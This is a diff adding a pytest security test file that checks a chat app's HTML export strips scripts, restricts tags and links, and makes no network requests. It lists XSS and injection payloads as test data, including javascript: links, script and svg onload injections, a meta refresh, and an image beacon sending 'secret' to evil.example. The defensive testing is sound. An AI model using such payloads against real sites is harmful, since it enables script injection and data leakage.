@@ -1,0 +1,156 @@
+"""Exported web pages can do nothing, whatever was said in the chat (row 80)."""
+
+import base64
+import hashlib
+import re
+import socket
+from html.parser import HTMLParser
+from typing import Final
+
+import pytest
+from PySide6.QtGui import QTextDocument
+from PySide6.QtWidgets import QApplication
+
+from app.exchange.labels import Labels
+from app.exchange.whole_chat import HandedOver, WholeChat, WholeMessage, Words
+from app.paths import resources
+from app.ui.exchange.web_page import web_page_writer
+from tests.support.markup import MARKUP
+from tests.support.whole_chats import NOON, chat_of, full_chat
+
+_TAGS: Final = frozenset({"html", "head", "meta", "title", "style", "body", "main", "header"}) | {
+    *("article", "h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "span", "b", "em", "strong", "s"),
+    *("a", "br", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"),
+    *("blockquote", "hr", "details", "summary"),
+}
+_ATTRIBUTES: Final = {
+    "html": {"lang"},
+    "meta": {"charset", "http-equiv", "content", "name"},
+    "a": {"href"},
+    "th": {"align"},
+    "td": {"align"},
+}
+_EVERYWHERE: Final = {"class", "dir"}
+_HOSTILE: Final = (
+    *MARKUP,
+    "[x](javascript:alert(1)) [y](data:text/html,<script>) [z](//evil.example/)",
+    "![pixel](https://evil.example/p.png?q=secret)",
+    "<https://evil.example> <javascript:alert(1)>",
+    "```</code></pre><script>alert(1)</script>\n</style><img src=x>\n```",
+    '```"><script>\nx\n```',
+    "</article></main></body><script src='http://127.0.0.1:9/x.js'></script>",
+    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
+    "<base href='http://127.0.0.1:9/'>",
+    "</style><style>@import url(http://127.0.0.1:9/x.css)</style>",
+    "| <img src=x> | b |\n|---|---|\n| <svg/onload=x> | `</td>` |",
+)
+
+
+class _Page(HTMLParser):
+    """Collects what a browser would make of a page."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def of(self, tag: str) -> list[dict[str, str | None]]:
+        return [attributes for name, attributes in self.tags if name == tag]
+
+
+def _written(chat: WholeChat) -> str:
+    return "".join(web_page_writer(resources() / "themes")(chat, Labels(), NOON))
+
+
+def _everywhere(payload: str) -> WholeChat:
+    """A chat that has the payload wherever text from outside can stand."""
+    parts = (
+        Words(payload, payload, payload),
+        HandedOver(payload, payload, payload),
+        *full_chat().messages[1].parts,
+    )
+    messages = (
+        WholeMessage("1", "user", NOON, (Words(payload),)),
+        WholeMessage("2", "assistant", NOON, parts),
+    )
+    return WholeChat("c", payload, NOON, messages)
+
+
+@pytest.mark.security(80)
+def test_a_page_has_only_what_cannot_act() -> None:
+    for payload in _HOSTILE:
+        page = _Page(_written(_everywhere(payload)))
+        for tag, attributes in page.tags:
+            assert tag in _TAGS, payload
+            assert set(attributes) <= _ATTRIBUTES.get(tag, set()) | _EVERYWHERE, payload
+        for link in page.of("a"):
+            assert re.match(r"(https?://|mailto:)", link["href"] or ""), payload
+        assert len(page.of("style")) == 1, payload
+
+
+@pytest.mark.security(80)
+def test_the_policy_of_a_page_allows_its_own_style_and_nothing_else() -> None:
+    text = _written(_everywhere("</style><b>x</b>"))
+    (policy,) = [
+        meta["content"] or ""
+        for meta in _Page(text).of("meta")
+        if meta.get("http-equiv") == "Content-Security-Policy"
+    ]
+
+    style = text.split("<style>", 1)[1].split("</style>", 1)[0]
+    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    assert policy.split("; ") == [
+        "default-src 'none'",
+        f"style-src 'sha256-{digest}'",
+        "base-uri 'none'",
+        "form-action 'none'",
+    ]
+    assert "url(" not in style
+    assert "@import" not in style
+
+
+@pytest.mark.security(80)
+def test_opening_a_page_asks_nobody_for_anything(qapp: QApplication) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.setblocking(False)
+        port = server.getsockname()[1]
+        for payload in _HOSTILE:
+            aimed = payload.replace("127.0.0.1:9", f"127.0.0.1:{port}")
+            document = QTextDocument()
+            document.setHtml(_written(_everywhere(aimed)))
+            document.adjustSize()
+        qapp.processEvents()
+
+        with pytest.raises(BlockingIOError):
+            server.accept()
+
+
+def test_a_page_shows_what_was_said() -> None:
+    text = _written(full_chat())
+
+    assert "<title>Tidy *everything*</title>" in text
+    assert "<em>see</em>" in text
+    assert "Writer goes on" in text
+    assert "<summary><b>Write file</b> <code>~/notes/`a`.md</code> · allowed by you" in text
+    assert "Some messages may be missing" in text
+
+
+def test_code_is_coloured_and_lists_are_nested() -> None:
+    text = _written(chat_of("- one\n  - two\n- three\n\n```python\nreturn 1\n```"))
+
+    assert '<span class="k">return</span> <span class="n">1</span>' in text
+    assert re.sub(r"<span[^>]*>.</span>|<p[^>]*>|</p>|\n", "", text).count("<ul><li>") == 2
+    page = _Page(text)
+    assert len(page.of("ul")) == 2
+    assert len(page.of("li")) == 3
+
+
+def test_a_page_has_both_looks() -> None:
+    text = _written(chat_of("x"))
+
+    assert "@media (prefers-color-scheme:dark)" in text
+    assert '<meta name="color-scheme" content="light dark">' in text
